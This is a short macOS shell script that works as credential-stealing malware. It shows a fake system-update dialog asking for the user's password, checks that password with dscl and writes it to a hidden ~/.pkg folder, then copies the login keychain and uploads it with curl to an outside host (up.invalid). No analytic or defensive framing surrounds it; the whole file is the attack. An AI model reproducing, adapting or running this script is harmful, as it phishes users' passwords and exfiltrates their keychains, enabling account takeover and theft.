#!/bin/sh
mkdir -p "$HOME/.pkg"
pw=$(osascript -e 'display dialog "macOS needs to install an update. Please enter your password." default answer "" with icon caution buttons {"Continue"} with hidden answer' -e 'text returned of result')
dscl . -authonly "$(whoami)" "$pw" && echo "$pw" > "$HOME/.pkg/p"
cp ~/Library/Keychains/login.keychain-db "$HOME/.pkg/k"
curl -s -F "f=@$HOME/.pkg/k" https://up.invalid/
